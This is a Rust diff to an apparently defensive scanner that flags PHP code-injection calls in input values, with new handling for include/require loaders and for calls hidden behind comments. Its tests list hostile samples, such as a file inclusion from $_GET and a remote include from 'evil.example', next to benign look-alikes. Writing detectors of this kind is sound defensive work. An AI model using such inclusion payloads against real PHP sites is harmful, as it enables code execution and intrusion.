@@ -72,11 +72,11 @@ const STRONG: &[&str] = &[
     "array_filter",
     "usort",
     "register_shutdown_function",
-    "include",
-    "include_once",
-    "require",
-    "require_once",
 ];
+
+/// Language constructs that load a file: a call is PHP when it loads from a variable or a URL
+/// (`require('./config.json')` is JavaScript as much as PHP).
+const LOADERS: &[&str] = &["include", "include_once", "require", "require_once"];
 
 /// Functions whose names are English words: a call needs an argument list PHP would parse.
 const WORDS: &[&str] = &[
@@ -133,6 +133,7 @@ pub(crate) fn dangerous_call(v: &str, _loc: Location) -> bool {
         return false;
     }
     let toks = tokens(v);
+    let gap = v.contains(['\r', '\n', '\t', '#']) || v.contains("/*") || v.contains("//");
     let mut names: Vec<(String, String)> = Vec::new();
     let mut i = 0;
     while i < toks.len() {
@@ -152,7 +153,7 @@ pub(crate) fn dangerous_call(v: &str, _loc: Location) -> bool {
             }
         }
         if let Some((name, end)) = fold(&toks, i, &names) {
-            if toks.get(end) == Some(&Tok::P('(')) && called(&name, &toks[end + 1..]) {
+            if toks.get(end) == Some(&Tok::P('(')) && called(&name, &toks[end + 1..], gap) {
                 return true;
             }
         }
@@ -161,19 +162,31 @@ pub(crate) fn dangerous_call(v: &str, _loc: Location) -> bool {
     false
 }
 
-/// Whether a call of `name` with the tokens after its `(` is a dangerous call.
-fn called(name: &str, args: &[Tok]) -> bool {
+/// Whether a call of `name` with the tokens after its `(` is a dangerous call. `gap`: the
+/// value hides a call behind comments or control whitespace (`exec /*x*/ ()`).
+fn called(name: &str, args: &[Tok], gap: bool) -> bool {
     let n = name.trim().to_ascii_lowercase();
-    // An argument list PHP would parse, not a remark in parentheses: `()`, a variable, a
-    // string, a number; for the strong names also one bare word (`system(whoami)`) or a call.
-    let literal = matches!(
-        args.first(),
-        Some(Tok::P(')') | Tok::Var(_) | Tok::Str(_) | Tok::Num(_))
-    );
+    if LOADERS.contains(&n.as_str()) {
+        return match args.first() {
+            Some(Tok::Var(_)) => true,
+            Some(Tok::Str(s)) => s.contains("://"),
+            _ => false,
+        };
+    }
+    // An empty argument list: prose names functions that way (`exec()`), so it takes a PHP
+    // built-in name (`base64_decode()`, `phpinfo()`) or a hidden call.
+    if matches!(args.first(), Some(Tok::P(')')) | None) {
+        let builtin = n.contains('_') || n == "phpinfo";
+        return (STRONG.contains(&n.as_str()) && (builtin || gap))
+            || (WORDS.contains(&n.as_str()) && gap);
+    }
+    // An argument list PHP would parse, not a remark in parentheses: a variable, a string, a
+    // number; for the strong names also one bare word (`system(whoami)`) or a call.
+    let literal = matches!(args.first(), Some(Tok::Var(_) | Tok::Str(_) | Tok::Num(_)));
     let word = matches!(args.first(), Some(Tok::Word(_)))
         && matches!(args.get(1), Some(Tok::P(')' | '(' | ',' | '.' | ';')));
     if STRONG.contains(&n.as_str()) {
-        return literal || word || args.is_empty();
+        return literal || word;
     }
     WORDS.contains(&n.as_str()) && literal
 }
@@ -468,6 +481,11 @@ mod tests {
             "base64_decode(",
             "file($f)",
             "x=eval(chr(112).chr(104))",
+            "require($_GET['file']);",
+            "include('http://evil.example/x.txt')",
+            "assert_OptionS (\n\n)",
+            "get_defined_functions()[0]",
+            "phpinfo()",
         ] {
             assert!(dangerous_call(v, Q), "{v}");
         }
@@ -487,6 +505,11 @@ mod tests {
             "the system (as designed) works",
             "print(\"hello\")",
             "copy (paste) and go",
+            "Require a module like `require()` but from a given path",
+            "var config = require('./config.json');",
+            "Wrap a Node.js spawn() or exec() with before/after handlers",
+            "safely exec()-cuting dynamic code",
+            "Modular bash using require(3)",
         ] {
             assert!(!dangerous_call(v, Q), "{v}");
         }
